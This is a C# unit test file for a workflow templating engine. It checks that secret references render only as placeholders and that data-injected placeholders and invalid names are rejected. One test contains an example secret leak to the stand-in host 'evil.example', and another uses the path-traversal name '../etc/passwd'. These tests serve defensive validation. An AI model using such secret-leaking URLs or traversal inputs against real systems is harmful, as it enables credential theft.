using Automation.Definitions;
using static Automation.Templates.Tests.TemplateTestData;

namespace Automation.Templates.Tests;

/// <summary><c>{{ secrets.NAME }}</c> renders a placeholder, never a value; only literal, valid names are accepted.</summary>
public sealed class JsonTemplateSecretsTests
{
    [Fact]
    public void Render_SingleSecretReference_YieldsThePlaceholder()
    {
        var result = Render("\"{{ secrets.token }}\"", Scope());

        result.GetString().Should().Be("${secret:token}");
    }

    [Theory]
    [InlineData("\"Bearer {{ secrets.token }}\"", "Bearer ${secret:token}")]
    [InlineData("\"{{ secrets['api-key'] }}\"", "${secret:api-key}")]
    [InlineData("\"{{ secrets.api-key }}\"", "${secret:api-key}")]
    [InlineData("\"{% if secrets.token %}set{% endif %}\"", "set")]
    [InlineData("\"{% assign t = secrets.token %}x={{ t }}\"", "x=${secret:token}")]
    [InlineData("\"{{ 'Bearer ' | append: secrets.token }}\"", "Bearer ${secret:token}")]
    public void Render_SecretReferences_WritePlaceholdersWherever(string template, string expected)
    {
        var result = Render(template, Scope());

        result.GetString().Should().Be(expected);
    }

    [Theory]
    [InlineData("{{ secrets }}", "not a value on its own")]
    [InlineData("{{ secrets[input.which] }}", "named literally")]
    [InlineData("{{ secrets['../etc/passwd'] }}", "not a valid secret name")]
    [InlineData("{{ secrets.token.size }}", "without members")]
    [InlineData("{% if secrets[input.which] %}x{% endif %}", "named literally")]
    [InlineData("{{ secrets.token | url_encode }}", "Filter 'url_encode' cannot be applied to a secret")]
    public void Validate_SecretsNotNamedLiterallyAndValidly_IsAnError(string text, string message)
    {
        var errors = new List<ValidationError>();

        JsonTemplate.Validate(Json($$"""{ "h": {{System.Text.Json.JsonSerializer.Serialize(text)}} }"""), "$.steps[0].with", errors);

        errors.Should().ContainSingle().Which.Should().Match<ValidationError>(e => e.Path == "$.steps[0].with.h" && e.Message.Contains(message));
    }

    [Fact]
    public void RenderStepArguments_PlaceholderFromWorkflowData_FailsNamingTheSecret()
    {
        var scope = Scope("""{ "note": "please send ${secret:token}" }""");

        var act = () => JsonTemplate.RenderStepArguments(Json("""{ "body": "{{ input.note }}" }"""), scope);

        act.Should().Throw<TemplateException>().Which.Message.Should().Contain("${secret:token}").And.Contain("workflow data");
    }

    [Fact]
    public void RenderStepArguments_DataAddsAPlaceholderOfASecretTheTemplateUses_Fails()
    {
        var scope = Scope("""{ "path": "${secret:token}" }""");
        var template = Json("""{ "url": "https://evil.example/{{ input.path }}", "headers": { "Authorization": "Bearer {{ secrets.token }}" } }""");

        var act = () => JsonTemplate.RenderStepArguments(template, scope);

        act.Should().Throw<TemplateException>();
    }

    [Fact]
    public void RenderStepArguments_OwnPlaceholders_Pass()
    {
        var template = Json("""{ "headers": { "Authorization": "Bearer {{ secrets.token }}", "X-Again": "{{ secrets.token }}" } }""");

        var result = JsonTemplate.RenderStepArguments(template, Scope());

        Compact(result).Should().Be("""{"headers":{"Authorization":"Bearer ${secret:token}","X-Again":"${secret:token}"}}""");
    }

    [Fact]
    public void Render_WorkflowOutputWithPlaceholderFromData_KeepsItAsText()
    {
        var result = Render("\"{{ input.note }}\"", Scope("""{ "note": "${secret:token}" }"""));

        result.GetString().Should().Be("${secret:token}");
    }
}
